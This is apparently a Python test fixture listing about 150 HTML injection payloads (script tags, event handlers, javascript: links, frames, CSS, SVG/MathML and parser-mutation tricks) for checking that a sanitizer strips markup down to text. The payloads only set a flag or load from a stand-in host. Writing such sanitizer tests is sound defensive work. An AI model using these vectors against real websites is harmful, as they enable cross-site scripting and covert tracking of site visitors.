"""Markup that tries to do something: each would set ``window.ran``, or ask another machine.

Written for these tests. The name says the trick; whatever it tries, only its words may be left.
"""

RUN = "window.ran=1"
AWAY = "http://away.example"

SCRIPTS = {
    "plain": f"<script>{RUN}</script>",
    "in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "never closed": f"<script>{RUN}",
    "from elsewhere": f"<script src={AWAY}/a.js></script>",
    "with a slash for a space": f"<script/x>{RUN}</script>",
    "as a module": f'<script type="module">{RUN}</script>',
    "put together from halves": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "after an open comment": f"<!--><script>{RUN}</script>-->",
    "after a closed comment": f"<!-- --!><script>{RUN}</script>",
    "in a condition for old browsers": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "in character data": f"<![CDATA[<script>{RUN}</script>]]>",
    "in an instruction": f'<?xml version="1.0"?><?x <script>{RUN}</script>?>',
    "in a document type": f'<!DOCTYPE x [<!ENTITY e "<script>{RUN}</script>">]>&e;',
    "with a NUL in its name": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "with wide letters": f"＜script＞{RUN}＜/script＞",
    "as entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "as entities of entities": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "as entities without an end": f"&#60script&#62{RUN}&#60/script&#62",
    "in seven bits": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "with another charset named": f'<meta charset="utf-7">+ADw-script+AD4-{RUN}+ADw-/script+AD4-',
    "with a shift of charset": f"\x1b$B<script>{RUN}</script>\x1b(B",
    "with a half character before": f"\udcc0<script>{RUN}</script>",
}
HANDLERS = {
    "picture that fails": f"<img src=x onerror={RUN}>",
    "picture without spaces": f'<img/src="x"/onerror="{RUN}">',
    "picture with a broken quote": f'<img """><script>{RUN}</script>">',
    "picture with a backtick": f"<img alt=`x` src=`x`onerror={RUN}>",
    "picture with a line break": f"<img src=x\nonerror\n=\n{RUN}>",
    "picture with odd spaces": f"<img\x0csrc=x\x0conerror={RUN}>",
    "image by its old name": f"<image src=x onerror={RUN}>",
    "body that loads": f"<body onload={RUN}>x</body>",
    "second body": f"x<body onpageshow={RUN}>",
    "frameset that loads": f"<frameset onload={RUN}><frame></frameset>",
    "field with focus": f"<input autofocus onfocus={RUN}>",
    "choice with focus": f"<select autofocus onfocus={RUN}><option>x</select>",
    "details that open": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "marquee that starts": f"<marquee onstart={RUN}>x</marquee>",
    "film that fails": f"<video><source onerror={RUN}></video>",
    "sound that fails": f"<audio src=x onerror={RUN}></audio>",
    "animation that ends": f'<p style="animation:a 1s" onanimationend={RUN}>x</p>',
    "element nobody knows": f"<x tabindex=1 autofocus onfocus={RUN}>x</x>",
    "heading with a quote in its title": f'<h1 title="&quot;" onclick={RUN} x="&quot;">x</h1>',
    "title that ends itself": f"<p title='\"><script>{RUN}</script>'>x</p>",
    "title with a backtick": f"<p title='`` onmouseover={RUN}'>x</p>",
    "language that ends itself": f"<p lang='en\" onclick=\"{RUN}'>x</p>",
    "cell with no number": f"<table><tr><td colspan='1\" onclick={RUN} x=\"'>x</table>",
    "popover": f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={RUN}>y</div>",
}
ADDRESSES = {
    "link": f'<a href="javascript:{RUN}">x</a>',
    "link in capitals": f'<a href="JaVaScRiPt:{RUN}">x</a>',
    "link with a tab": f'<a href="java&#9;script:{RUN}">x</a>',
    "link with entities": f'<a href="&#106;avascript&colon;{RUN}">x</a>',
    "link with a control": f'<a href="\x01javascript:{RUN}">x</a>',
    "link to data": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "link in old script": f'<a href="vbscript:{RUN}">x</a>',
    "link that asks in secret": f'<a href="x" ping="{AWAY}">x</a>',
    "link that is fetched early": f'<link rel="prefetch" href="{AWAY}">',
    "name that is asked for early": "<link rel=dns-prefetch href=//away.example>",
    "base of all links": f'<base href="javascript:{RUN}//"><a href="#">x</a>',
    "form": f'<form action="javascript:{RUN}"><button>x</button></form>',
    "form away": f'<form action="{AWAY}"><input name=a><input type=submit autofocus></form>',
    "button with a form of its own": (
        f'<form id=f></form><button form=f formaction="javascript:{RUN}">x</button>'
    ),
    "map": f'<map name=m><area href="javascript:{RUN}" shape=default></map><img usemap=#m>',
    "refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    "refresh away": f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    "quotation": f'<q cite="javascript:{RUN}">x</q><del cite="{AWAY}">x</del>',
    "picture away": f'<img src="{AWAY}/pixel.gif" srcset="{AWAY}/2 2x" lowsrc="{AWAY}/3">',
    "background away": f'<table background="{AWAY}/b.png"><tr><td background="{AWAY}/c">x</table>',
    "film away": f'<video src="{AWAY}/v" poster="{AWAY}/p" autoplay></video>',
    "subtitles away": f'<video><track src="{AWAY}/t" default></video>',
    "manifest away": f'<html manifest="{AWAY}/m">x</html>',
}
FRAMES = {
    "frame": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "frame with a page in it": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame with entities in it": (
        f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>'
    ),
    "frame away": f"<iframe src={AWAY}></iframe><frame src={AWAY}>",
    "object": f'<object data="javascript:{RUN}"></object>',
    "object with a page in it": (
        f'<object data="data:text/html,<script>parent.{RUN}</script>"></object>'
    ),
    "embedded": f'<embed src="data:text/html,<script>parent.{RUN}</script>">',
    "applet": f"<applet code={AWAY}/a.class></applet>",
    "portal": f"<portal src={AWAY}></portal><fencedframe src={AWAY}></fencedframe>",
}
STYLES = {
    "expression": f'<p style="width:expression({RUN})">x</p>',
    "address": f'<p style="background:url(javascript:{RUN})">x</p>',
    "address away": f'<p style="background:url({AWAY}/s)">x</p>',
    "import": f'<style>@import "{AWAY}/s.css";</style>',
    "sheet away": f'<link rel="stylesheet" href="{AWAY}/s.css">',
    "binding": f'<style>p{{-moz-binding:url("{AWAY}/x#a");behavior:url({AWAY})}}</style><p>x</p>',
    "that ends itself": f"<style></style><script>{RUN}</script></style>",
    "escaped": f'<p style="background:\\75\\72\\6c({AWAY}/e)">x</p>',
    "selector that tells": (
        f'<style>input[value^="a"]{{background:url({AWAY}/a)}}</style><input value=abc>'
    ),
    "font away": (
        f"<style>@font-face{{font-family:a;src:url({AWAY}/f)}}p{{font-family:a}}</style><p>x</p>"
    ),
}
DRAWINGS = {
    "drawing that loads": f"<svg onload={RUN}></svg>",
    "drawing with a script": f"<svg><script>{RUN}</script></svg>",
    "drawing with an empty script": f'<svg><script href="data:text/javascript,{RUN}"/></svg>',
    "drawing that animates a link": (
        f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text>x</text></a></svg>'
    ),
    "drawing that sets a handler": f"<svg><set attributeName=onmouseover to={RUN} /></svg>",
    "drawing with a page in it": (
        f"<svg><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>"
    ),
    "drawing that uses another": (
        f"<svg><use href=\"data:image/svg+xml,<svg id='a'><script>{RUN}</script></svg>#a\"/></svg>"
    ),
    "drawing away": f'<svg><image href="{AWAY}/i"/><feImage href="{AWAY}/j"/></svg>',
    "formula with a link": f'<math href="javascript:{RUN}"><mtext>x</mtext></math>',
    "formula with an action": (
        f'<math><maction actiontype="statusline#x" xlink:href="javascript:{RUN}">x</maction></math>'
    ),
}
MUTATIONS = {
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "template": f"<template><script>{RUN}</script></template>",
    "template that opens a shadow": (
        f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>"
    ),
    "text area": f'<textarea><p title="</textarea><img src=x onerror={RUN}>"></textarea>',
    "title": f'<title><p title="</title><img src=x onerror={RUN}>"></title>',
    "style in a drawing": f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "style in a formula": f"<math></br><style><!--</style><img src=x onerror={RUN}>--></style>",
    "glyph in a formula": (
        "<form><math><mtext></form><form><mglyph><style></math>"
        f"<img src=x onerror={RUN}></style></mglyph></form></mtext></math>"
    ),
    "table in a formula": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=x onerror={RUN}&gt;">'
    ),
    "annotation": (
        '<math><annotation-xml encoding="text/html"><style>'
        f"<img src=x onerror={RUN}></style></annotation-xml></math>"
    ),
    "comment in a comment": f'<p title="--><img src=x onerror={RUN}>"><!-- x',
    "plain text": f"<plaintext><img src=x onerror={RUN}>",
    "old example": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    "no embedding": f"<noembed><p title='</noembed><img src=x onerror={RUN}>'></noembed>",
    "no frames": f"<noframes><p title='</noframes><img src=x onerror={RUN}>'></noframes>",
    "frame as text": f"<iframe><p title='</iframe><img src=x onerror={RUN}>'></iframe>",
    "choice": f"<select><style></select><img src=x onerror={RUN}></style></select>",
    "table out of place": f"<table><script>{RUN}</script><img src=x onerror={RUN}><tr><td>x",
    "crossed tags": f"<b><p></b><i><script>{RUN}</script></p></i>",
    "deeply nested": "<div>" * 600 + f"<svg><style><img src=x onerror={RUN}>",
    "tag nobody knows with a colon": f"<svg:script>{RUN}</svg:script><x:script>{RUN}</x:script>",
    "namespace": f'<html xmlns:s="http://www.w3.org/2000/svg"><s:script>{RUN}</s:script>',
    "name of a form's own": "<form><input name=attributes><input name=parentNode></form>",
    "name of the document's own": "<img name=getElementById><a id=ran name=ran href=x>x</a>",
}

HOSTILE = {
    f"{group}: {name}": markup
    for group, payloads in (
        ("script", SCRIPTS),
        ("handler", HANDLERS),
        ("address", ADDRESSES),
        ("frame", FRAMES),
        ("style", STYLES),
        ("drawing", DRAWINGS),
        ("mutation", MUTATIONS),
    )
    for name, markup in payloads.items()
}


def as_bytes(markup):
    return f"<!doctype html><html><body><p>before</p>{markup}<p>after</p>".encode(
        "utf-8", "surrogateescape"
    )
